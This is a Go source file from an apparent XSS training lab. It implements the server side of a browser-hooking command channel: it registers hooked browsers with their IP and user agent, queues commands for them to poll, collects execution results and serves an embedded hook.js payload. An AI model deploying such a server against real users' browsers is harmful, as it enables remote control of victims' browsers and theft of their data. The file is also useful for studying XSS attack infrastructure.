package api

import (
	_ "embed"
	"encoding/json"
	"net"
	"net/http"
	"strings"

	"github.com/victoredede21/xss-educational-lab/pkg/models"
)

//go:embed hook.js
var hookScript []byte

const maxBodyBytes = 1 << 20

// Hook handles POST /api/hook
func (h *Handler) Hook(w http.ResponseWriter, r *http.Request) {
	var req models.RegisterRequest
	if !decode(w, r, &req) {
		return
	}
	if strings.TrimSpace(req.IPAddress) == "" {
		req.IPAddress = clientIP(r)
	}
	if strings.TrimSpace(req.UserAgent) == "" {
		req.UserAgent = r.UserAgent()
	}
	if req.Referer == "" {
		req.Referer = r.Referer()
	}

	resp, err := h.dispatcher.Hook(r.Context(), req, h.baseURL(r))
	if err != nil {
		h.writeError(w, r, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"success":        true,
		"sessionId":      resp.SessionID,
		"pollIntervalMs": resp.PollIntervalMs,
		"hookUrl":        resp.HookURL,
		"commands":       resp.Commands,
	})
}

type pollRequest struct {
	SessionID string `json:"sessionId"`
}

// Poll handles POST /api/hook/poll
func (h *Handler) Poll(w http.ResponseWriter, r *http.Request) {
	var req pollRequest
	if !decode(w, r, &req) {
		return
	}
	commands, err := h.dispatcher.Poll(r.Context(), req.SessionID)
	if err != nil {
		h.writeError(w, r, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"success":  true,
		"commands": commands,
	})
}

type resultRequest struct {
	SessionID   string          `json:"sessionId"`
	ExecutionID int64           `json:"executionId"`
	Result      json.RawMessage `json:"result"`
}

// SubmitResult handles POST /api/hook/result
func (h *Handler) SubmitResult(w http.ResponseWriter, r *http.Request) {
	var req resultRequest
	if !decode(w, r, &req) {
		return
	}
	if _, err := h.dispatcher.SubmitResult(r.Context(), req.SessionID, req.ExecutionID, req.Result); err != nil {
		h.writeError(w, r, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{"success": true})
}

// HookScript handles GET /hook.js
func (h *Handler) HookScript(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/javascript; charset=utf-8")
	w.Header().Set("Cache-Control", "no-cache, no-store, must-revalidate")
	w.Write(hookScript)
}

func (h *Handler) baseURL(r *http.Request) string {
	if h.publicURL != "" {
		return h.publicURL
	}
	scheme := "http"
	if r.TLS != nil {
		scheme = "https"
	}
	if proto := r.Header.Get("X-Forwarded-Proto"); proto != "" {
		scheme = proto
	}
	return scheme + "://" + r.Host
}

// clientIP prefers the first X-Forwarded-For hop, then the peer address
func clientIP(r *http.Request) string {
	if fwd := r.Header.Get("X-Forwarded-For"); fwd != "" {
		first, _, _ := strings.Cut(fwd, ",")
		if ip := strings.TrimSpace(first); ip != "" {
			return ip
		}
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if err != nil {
		return r.RemoteAddr
	}
	return host
}
